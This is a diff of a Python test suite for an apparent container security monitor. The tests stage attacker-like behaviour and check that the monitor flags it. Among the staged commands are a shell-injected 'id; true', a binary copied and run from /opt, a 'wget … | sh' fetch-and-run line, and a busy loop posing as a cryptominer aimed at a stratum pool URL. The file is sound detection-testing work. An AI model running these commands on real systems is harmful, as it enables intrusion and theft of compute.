@@ -124,12 +124,12 @@ def test_shell(tap):
         image(d)
         old = d.run(["node", "/app/server.js", "later", "5", "id; true"], name="was-there", image=RUN)
         with Guard(d) as g:
-            d.run(["node", "/app/server.js", "sh", "id; true"], name="hacked", image=RUN).wait()
-            bring = "mkdir -p /opt; cp /bin/pvran /opt/helper; /opt/helper; busybox wget -q http://127.0.0.1:1/x; true"
+            d.run(["node", "/app/server.js", "sh", "id; sleep 4"], name="hacked", image=RUN)
+            bring = "mkdir -p /opt; cp /bin/pvran /opt/helper; /opt/helper; sleep 4"
             dropped = d.run(["node", "/app/server.js", "sh", bring], name="dropped", image=RUN)
-            dropped.wait()
-            fetch = d.run(["node", "/app/server.js", "sh", "wget -q http://127.0.0.1:1/x | sh; true"], name="fetches", image=RUN)
-            fetch.wait()
+            fetch = d.run(["node", "/app/server.js", "sh", "wget -q http://127.0.0.1:1/x | sh; sleep 4"], name="fetches", image=RUN)
+            for one in (dropped, fetch):
+                one.wait()
             honest = {
                 "entrypoint": ["sh", "-c", "id; exec node /app/server.js"],
                 "package-script": ["node", "/bin/npm", "sh", "id; cp /bin/pvran /bin/tool; /bin/tool"],
@@ -158,4 +158,20 @@ def test_shell(tap):
                    [], "and what they bring runs")
 
 
-main(test_attacks, test_grace, test_shell)
+def test_miner(tap):
+    """Command lines, of programs of the image as well."""
+    with Dockerd() as d:
+        image(d)
+        with Guard(d, conf={"sample": "500ms"}) as g:
+            spin = "while :; do :; done"
+            d.run(["sh", "-c", spin, "x", "-o", "stratum+tcp://pool.example.org:3333"], name="mines", image=RUN, NanoCpus=int(5e8))
+            d.run(["sh", "-c", spin, "x", "-o", "http://www.example.org/"], name="computes", image=RUN, NanoCpus=int(5e8))
+            n = g.wait_notice("exec.miner", "mines", 30)
+            tap.ok(n and n["severity"] == "critical" and "a stratum URL" in n["detail"]["what"], "a busy process with a stratum URL is told", n)
+            c = d.run("sleep 1000", name="drops", image=RUN)
+            c.exec("sh", "-c", "cp /bin/pvran /dev/a; /dev/a --donate-level=1; true")
+            tap.ok(g.wait_notice("exec.miner", "drops"), "a dropped program by its options, though it never ran")
+            tap.eq(g.notices("exec.miner", "computes"), [], "another busy one is not")
+
+
+main(test_attacks, test_grace, test_shell, test_miner)
